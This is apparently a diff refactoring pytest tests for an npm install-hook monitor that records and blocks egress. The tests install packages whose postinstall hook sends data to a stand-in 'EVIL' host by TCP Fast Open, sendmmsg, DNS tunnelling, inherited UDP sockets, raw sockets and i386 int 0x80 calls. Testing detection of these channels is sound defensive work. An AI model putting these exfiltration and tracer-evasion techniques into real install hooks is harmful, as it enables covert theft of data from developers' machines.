@@ -18,87 +18,48 @@ from pathlib import Path
 
 import pytest
 
-from ciwatch.record import read_record
-from ciwatch.record.events import Anomaly, DnsQuery, NetConnect, NetSend, Refusal
+from ciwatch.record.events import Anomaly, DnsQuery, Event, NetConnect, NetSend, Refusal
 from ciwatch.record.vocabulary import RefusedWhat, Transport
-from tests.support.attacks import (
-    DEFAULT_POLICY,
-    POLICY_FAILED,
-    Watched,
-    assert_found,
-    assert_replay_agrees,
-    npm_install,
-    npm_project,
-    watch,
-)
+from tests.support.attacks import assert_found, assert_replay_agrees
 from tests.support.cprograms import program
+from tests.support.hooks import HOOK, Hooks, assert_exit, assert_refused, bare_probe
 from tests.support.internet import EVIL, UDP_PORT, TestInternet
 
 pytestmark = [pytest.mark.npm, pytest.mark.root]
 
-HOOK = "postinstall"
-
-
-def _bare(*argv: str) -> str:
-    done = subprocess.run(argv, capture_output=True, text=True, timeout=60)
-    assert done.returncode == 0, done.stderr
-    return done.stdout
-
-
-def _install(
-    internet: TestInternet, tmp_path: Path, name: str, args: list[str], *, mode: str | None, net: str | None = None
-) -> tuple[Watched, str]:
-    """Publish ``name`` whose postinstall runs sock_probe ARGS, and install it under ciwatch."""
-    command = " ".join([str(program("sock_probe")), *args])
-    internet.publish_npm(name, "1.0.0", package_json_extra={"scripts": {HOOK: command}})
-    project = npm_project(tmp_path / "project")
-    watched = watch(
-        internet,
-        tmp_path / "home",
-        project,
-        tmp_path / "out",
-        [*npm_install(f"{name}@1.0.0"), "--foreground-scripts"],
-        policy=DEFAULT_POLICY,
-        mode=mode,
-        net=net,
-    )
-    return watched, f"{name}@1.0.0"
-
-
-def _refused(watched: Watched) -> None:
-    assert watched.verdict["verdict"] == "fail", watched.described()
-    assert watched.record_end_code == 0 and watched.code == POLICY_FAILED, watched.stderr[-3000:]
-    assert_replay_agrees(watched)
+PROBE = "sock_probe"
 
 
 # -- TCP Fast Open: a connect made by sendto/sendmsg ---------------------------------------
 
 
 @pytest.mark.parametrize("how", ["tfo", "tfo-msg"])
-def test_fast_open_works_bare(internet: TestInternet, how: str) -> None:
-    out = _bare(str(program("sock_probe")), how, internet.address_of(EVIL).ipv4, "80")
+def test_fast_open_works_bare(internet: TestInternet, evil_ip: str, how: str) -> None:
+    out = bare_probe(PROBE, how, evil_ip, "80")
     assert f"{how} reply HTTP/1." in out, out
     assert [r.path for r in internet.requests_to(EVIL)] == ["/tfo"]
 
 
 @pytest.mark.parametrize("how", ["tfo", "tfo-msg"])
-def test_fast_open_goes_through_the_proxy_and_is_judged(internet: TestInternet, tmp_path: Path, how: str) -> None:
-    evil = internet.address_of(EVIL).ipv4
-    watched, package = _install(internet, tmp_path, f"fast-open-{how}", [how, evil, "80"], mode=None)
-    assert watched.code == 0, watched.stderr[-3000:]
+def test_fast_open_goes_through_the_proxy_and_is_judged(
+    internet: TestInternet, hooks: Hooks, evil_ip: str, how: str
+) -> None:
+    watched, package = hooks.install_probe(PROBE, f"fast-open-{how}", [how, evil_ip, "80"])
+    assert_exit(watched, 0)
     assert_found(watched, "unfamiliar-egress", package, HOOK)
-    connects = [e.event for e in read_record(watched.out).events if isinstance(e.event, NetConnect)]
-    assert any(c.address == evil and c.port == 80 and c.via == "proxy" and c.inode for c in connects), connects
+    connects = watched.events(NetConnect)
+    assert any(c.address == evil_ip and c.port == 80 and c.via == "proxy" and c.inode for c in connects), connects
     assert [r.path for r in internet.requests_to(EVIL)] == ["/tfo"]  # audit: it went, via the proxy
     assert_replay_agrees(watched)
 
 
 @pytest.mark.parametrize("net", [None, pytest.param("sandbox", marks=pytest.mark.root)])
 @pytest.mark.parametrize("how", ["tfo", "tfo-msg"])
-def test_fast_open_is_refused_in_block_mode(internet: TestInternet, tmp_path: Path, how: str, net: str | None) -> None:
-    evil = internet.address_of(EVIL).ipv4
-    watched, package = _install(internet, tmp_path, f"fast-open-{how}", [how, evil, "80"], mode="block", net=net)
-    _refused(watched)
+def test_fast_open_is_refused_in_block_mode(
+    internet: TestInternet, hooks: Hooks, evil_ip: str, how: str, net: str | None
+) -> None:
+    watched, package = hooks.install_probe(PROBE, f"fast-open-{how}", [how, evil_ip, "80"], mode="block", net=net)
+    assert_refused(watched)
     assert_found(watched, "unfamiliar-egress", package, HOOK)
     assert internet.requests_to(EVIL) == []
 
@@ -106,27 +67,25 @@ def test_fast_open_is_refused_in_block_mode(internet: TestInternet, tmp_path: Pa
 # -- sendmmsg: every message judged, however many --------------------------------------------
 
 
-def test_sendmmsg_last_message_works_bare(internet: TestInternet) -> None:
-    out = _bare(str(program("sock_probe")), "mmsg", internet.address_of(EVIL).ipv4, str(UDP_PORT), "300")
+def test_sendmmsg_last_message_works_bare(internet: TestInternet, evil_ip: str) -> None:
+    out = bare_probe(PROBE, "mmsg", evil_ip, str(UDP_PORT), "300")
     assert "mmsg ok 300" in out, out
     assert [d.data for d in internet.udp_datagrams(EVIL, at_least=1)] == [b"mmsg-exfil"]
 
 
-def test_sendmmsg_message_300_is_recorded_and_judged(internet: TestInternet, tmp_path: Path) -> None:
-    evil = internet.address_of(EVIL).ipv4
-    watched, package = _install(internet, tmp_path, "many-messages", ["mmsg", evil, str(UDP_PORT), "300"], mode=None)
-    assert watched.code == 0, watched.stderr[-3000:]
-    sends = [e.event for e in read_record(watched.out).events if isinstance(e.event, NetSend)]
-    assert [s.address for s in sends if s.address == evil] == [evil]
+def test_sendmmsg_message_300_is_recorded_and_judged(hooks: Hooks, evil_ip: str) -> None:
+    watched, package = hooks.install_probe(PROBE, "many-messages", ["mmsg", evil_ip, str(UDP_PORT), "300"])
+    assert_exit(watched, 0)
+    sends = watched.events(NetSend)
+    assert [s.address for s in sends if s.address == evil_ip] == [evil_ip]
     assert_found(watched, "proxy-bypass", package, HOOK)
     assert_replay_agrees(watched)
 
 
-def test_sendmmsg_message_300_is_refused_in_block_mode(internet: TestInternet, tmp_path: Path) -> None:
-    evil = internet.address_of(EVIL).ipv4
-    args = ["mmsg", evil, str(UDP_PORT), "300"]
-    watched, package = _install(internet, tmp_path, "many-messages", args, mode="block")
-    _refused(watched)
+def test_sendmmsg_message_300_is_refused_in_block_mode(internet: TestInternet, hooks: Hooks, evil_ip: str) -> None:
+    args = ["mmsg", evil_ip, str(UDP_PORT), "300"]
+    watched, package = hooks.install_probe(PROBE, "many-messages", args, mode="block")
+    assert_refused(watched)
     assert_found(watched, "proxy-bypass", package, HOOK)
     assert internet.udp_datagrams(EVIL, timeout=1.0) == []
 
@@ -136,28 +95,28 @@ def test_sendmmsg_message_300_is_refused_in_block_mode(internet: TestInternet, t
 NAME = "c2VjcmV0.tunnel.exfil.test"
 
 
-def test_dns_to_an_odd_port_works_bare(internet: TestInternet) -> None:
-    out = _bare(str(program("sock_probe")), "dns", internet.address_of(EVIL).ipv4, str(UDP_PORT), NAME)
+def test_dns_to_an_odd_port_works_bare(internet: TestInternet, evil_ip: str) -> None:
+    out = bare_probe(PROBE, "dns", evil_ip, str(UDP_PORT), NAME)
     assert "dns ok" in out
     (datagram,) = internet.udp_datagrams(EVIL, at_least=1)
     assert b"c2VjcmV0" in datagram.data
 
 
-def test_dns_to_an_odd_port_is_named_and_judged(internet: TestInternet, tmp_path: Path) -> None:
-    evil = internet.address_of(EVIL).ipv4
-    watched, package = _install(internet, tmp_path, "odd-port-dns", ["dns", evil, str(UDP_PORT), NAME], mode=None)
-    assert watched.code == 0, watched.stderr[-3000:]
-    queries = [e.event for e in read_record(watched.out).events if isinstance(e.event, DnsQuery)]
-    assert any(q.name == NAME and q.server == evil and q.port == UDP_PORT for q in queries), queries
+def test_dns_to_an_odd_port_is_named_and_judged(hooks: Hooks, evil_ip: str) -> None:
+    watched, package = hooks.install_probe(PROBE, "odd-port-dns", ["dns", evil_ip, str(UDP_PORT), NAME])
+    assert_exit(watched, 0)
+    queries = watched.events(DnsQuery)
+    assert any(q.name == NAME and q.server == evil_ip and q.port == UDP_PORT for q in queries), queries
     assert_found(watched, "proxy-bypass", package, HOOK)
     assert_replay_agrees(watched)
 
 
-def test_dns_to_an_odd_port_is_refused_and_the_refusal_names_it(internet: TestInternet, tmp_path: Path) -> None:
-    evil = internet.address_of(EVIL).ipv4
-    watched, _package = _install(internet, tmp_path, "odd-port-dns", ["dns", evil, str(UDP_PORT), NAME], mode="block")
-    _refused(watched)
-    refusals = [e.event for e in read_record(watched.out).events if isinstance(e.event, Refusal)]
+def test_dns_to_an_odd_port_is_refused_and_the_refusal_names_it(
+    internet: TestInternet, hooks: Hooks, evil_ip: str
+) -> None:
+    watched, _package = hooks.install_probe(PROBE, "odd-port-dns", ["dns", evil_ip, str(UDP_PORT), NAME], mode="block")
+    assert_refused(watched)
+    refusals = watched.events(Refusal)
     assert any(r.what == RefusedWhat.DNS and r.target == NAME for r in refusals), refusals
     assert internet.udp_datagrams(EVIL, timeout=1.0) == []
 
@@ -165,28 +124,28 @@ def test_dns_to_an_odd_port_is_refused_and_the_refusal_names_it(internet: TestIn
 # -- a connected UDP socket, used by a child that inherited it --------------------------------
 
 
-def test_inherited_udp_socket_works_bare(internet: TestInternet) -> None:
-    out = _bare(str(program("sock_probe")), "udp-fork", internet.address_of(EVIL).ipv4, str(UDP_PORT))
+def test_inherited_udp_socket_works_bare(internet: TestInternet, evil_ip: str) -> None:
+    out = bare_probe(PROBE, "udp-fork", evil_ip, str(UDP_PORT))
     assert "udp-send ok 15" in out, out
     assert [d.data for d in internet.udp_datagrams(EVIL, at_least=1)] == [b"inherited-exfil"]
 
 
-def test_inherited_udp_socket_send_is_recorded(internet: TestInternet, tmp_path: Path) -> None:
-    evil = internet.address_of(EVIL).ipv4
-    watched, package = _install(internet, tmp_path, "udp-inherit", ["udp-fork", evil, str(UDP_PORT)], mode=None)
-    assert watched.code == 0, watched.stderr[-3000:]
-    events = [e.event for e in read_record(watched.out).events]
-    (connect,) = [e for e in events if isinstance(e, NetConnect) and e.address == evil]
+def test_inherited_udp_socket_send_is_recorded(hooks: Hooks, evil_ip: str) -> None:
+    watched, package = hooks.install_probe(PROBE, "udp-inherit", ["udp-fork", evil_ip, str(UDP_PORT)])
+    assert_exit(watched, 0)
+    events = watched.events(Event)
+    (connect,) = [e for e in events if isinstance(e, NetConnect) and e.address == evil_ip]
     assert connect.protocol == Transport.UDP and connect.inode
-    sends = [e for e in events if isinstance(e, NetSend) and e.address == evil]
+    sends = [e for e in events if isinstance(e, NetSend) and e.address == evil_ip]
     assert sends and all(s.pid != connect.pid for s in sends)  # the child's send, by its own pid
     assert_found(watched, "proxy-bypass", package, HOOK)
 
 
-def test_inherited_udp_socket_is_refused_at_connect_in_block_mode(internet: TestInternet, tmp_path: Path) -> None:
-    evil = internet.address_of(EVIL).ipv4
-    watched, package = _install(internet, tmp_path, "udp-inherit", ["udp-fork", evil, str(UDP_PORT)], mode="block")
-    _refused(watched)
+def test_inherited_udp_socket_is_refused_at_connect_in_block_mode(
+    internet: TestInternet, hooks: Hooks, evil_ip: str
+) -> None:
+    watched, package = hooks.install_probe(PROBE, "udp-inherit", ["udp-fork", evil_ip, str(UDP_PORT)], mode="block")
+    assert_refused(watched)
     assert_found(watched, "proxy-bypass", package, HOOK)
     assert internet.udp_datagrams(EVIL, timeout=1.0) == []
 
@@ -195,15 +154,15 @@ def test_inherited_udp_socket_is_refused_at_connect_in_block_mode(internet: Test
 
 
 @pytest.mark.parametrize("kind", ["raw", "packet"])
-def test_raw_and_packet_sockets(internet: TestInternet, tmp_path: Path, kind: str) -> None:
-    assert f"{kind} ok" in _bare(str(program("sock_probe")), kind)
-    audit, package = _install(internet, tmp_path / "audit", f"{kind}-socket", [kind], mode=None)
-    assert f"{kind} ok" in audit.stdout + audit.stderr
+def test_raw_and_packet_sockets(hooks: Hooks, kind: str) -> None:
+    assert f"{kind} ok" in bare_probe(PROBE, kind)
+    audit, package = hooks.install_probe(PROBE, f"{kind}-socket", [kind], under="audit")
+    assert f"{kind} ok" in audit.output
     found = assert_found(audit, "tracer-evasion", package, HOOK)
     assert found[0]["severity"] == "high" and audit.verdict["verdict"] == "fail"
-    block, package = _install(internet, tmp_path / "block", f"{kind}-socket-b", [kind], mode="block")
-    _refused(block)
-    assert f"{kind} failed: Operation not permitted" in block.stdout + block.stderr
+    block, package = hooks.install_probe(PROBE, f"{kind}-socket-b", [kind], under="block", mode="block")
+    assert_refused(block)
+    assert f"{kind} failed: Operation not permitted" in block.output
     assert_found(block, "tracer-evasion", package, HOOK)
 
 
@@ -257,25 +216,28 @@ def test_netlink_change_by_ip_through_sendmsg(tmp_path: Path) -> None:
 # -- another ABI: i386 socket calls through int 0x80 ------------------------------------------
 
 
-def test_int80_connect_works_bare(internet: TestInternet) -> None:
-    out = _bare(str(program("sock_probe")), "int80", internet.address_of(EVIL).ipv4, "80")
+def test_int80_connect_works_bare(internet: TestInternet, evil_ip: str) -> None:
+    out = bare_probe(PROBE, "int80", evil_ip, "80")
     assert "int80 reply HTTP/1." in out, out
     assert [r.path for r in internet.requests_to(EVIL)] == ["/int80"]
 
 
-def test_int80_connect_is_recorded_and_refused_in_block_mode(internet: TestInternet, tmp_path: Path) -> None:
+def test_int80_connect_is_recorded_and_refused_in_block_mode(
+    internet: TestInternet, hooks: Hooks, evil_ip: str
+) -> None:
     """The tracer can't decode (or redirect) an i386 connect: audit records the foreign-ABI
     anomaly (proxy-bypass); block mode refuses every syscall of another ABI that it would act on
     in x86_64."""
-    evil = internet.address_of(EVIL).ipv4
-    audit, package = _install(internet, tmp_path / "audit", "int80-connect", ["int80", evil, "80"], mode=None)
+    audit, package = hooks.install_probe(PROBE, "int80-connect", ["int80", evil_ip, "80"], under="audit")
     found = assert_found(audit, "proxy-bypass", package, HOOK)
     assert any("i386 (int 0x80) syscall" in f["message"] for f in found), audit.described()
-    anomalies = [e.event for e in read_record(audit.out).events if isinstance(e.event, Anomaly)]
+    anomalies = audit.events(Anomaly)
     assert any(a.detail == "i386 (int 0x80) syscall connect" for a in anomalies), anomalies
     internet.reset_logs()
-    block, package = _install(internet, tmp_path / "block", "int80-connect-b", ["int80", evil, "80"], mode="block")
-    _refused(block)
-    assert "int80-connect failed: Operation not permitted" in block.stdout + block.stderr
+    block, package = hooks.install_probe(
+        PROBE, "int80-connect-b", ["int80", evil_ip, "80"], under="block", mode="block"
+    )
+    assert_refused(block)
+    assert "int80-connect failed: Operation not permitted" in block.output
     assert_found(block, "tracer-evasion", package, HOOK)
     assert internet.requests_to(EVIL) == []
